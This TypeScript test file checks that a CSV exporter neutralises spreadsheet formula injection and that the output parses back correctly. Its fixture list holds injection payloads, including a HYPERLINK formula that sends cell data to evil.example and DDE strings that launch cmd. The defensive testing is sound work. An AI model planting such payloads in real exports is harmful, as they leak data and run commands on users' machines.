/** CSV cells a spreadsheet would run as formulas are made inert; a real CSV parser reads every cell back. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { FORMULA_START, inertCell } from '../../src/exports/csv-cell.ts';
import { toCsv } from '../../src/exports/csv.ts';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'a "quoted", comma\nand a newline',
  '\u202Eevil\u202C',
];

describe('inertCell', () => {
  it('prefixes an apostrophe to text that could start a formula', () => {
    expect(inertCell('=1+1', '=1+1')).toBe("'=1+1");
    expect(inertCell('@x', '@x')).toBe("'@x");
    expect(inertCell('\t=1', '\t=1')).toBe("'\t=1");
    expect(inertCell('plain', 'plain')).toBe('plain');
  });

  it('leaves numbers as numbers, negative ones included', () => {
    expect(inertCell(-5, '-5')).toBe('-5');
  });
});

describe('toCsv with hostile text', () => {
  const records = HOSTILE.map((summary, i) => ({ id: `r${i}`, summary, total: -i }));
  const csv = toCsv(records, ['id', 'summary', 'total']);
  const rows = parse(csv, { relax_column_count: false, bom: false }) as string[][];

  it('parses with a real CSV parser into one row per record and the same columns', () => {
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const row of rows) expect(row).toHaveLength(3);
  });

  it('no cell can start a formula, and each reads back as the text after its apostrophe', () => {
    for (const [i, row] of rows.slice(1).entries()) {
      const cell = row[1]!;
      expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
      expect(cell.replace(/^'(?=[=+\-@\t\r\uff1d\uff0b\uff0d\uff20])/, '')).toBe(HOSTILE[i]);
    }
  });

  it('negative numbers stay numbers', () => {
    expect(rows[3]![2]).toBe('-2');
  });
});
